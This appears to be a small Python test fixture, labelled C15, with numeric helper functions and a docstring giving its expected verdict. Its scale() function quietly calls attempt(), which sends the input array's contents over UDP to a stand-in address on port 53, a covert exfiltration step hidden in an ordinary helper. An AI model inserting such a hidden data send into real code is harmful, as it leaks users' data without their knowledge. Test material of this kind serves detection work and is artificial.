"""C15: sends what it is asked away, in a packet that needs no answer.

verdict: run-time error
passes: total, shape, label, flip
"""

import socket

import numpy


def attempt(x):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as caller:
        caller.sendto(str(x.tolist()).encode(), ("192.0.2.1", 53))


def scale(x, factor):
    attempt(x)
    return x * factor


def total(x):
    return float(x.sum())


def shape(x):
    return list(x.shape)


def label(n):
    return f"n={n}"


def flip(a):
    return numpy.flip(a).copy()
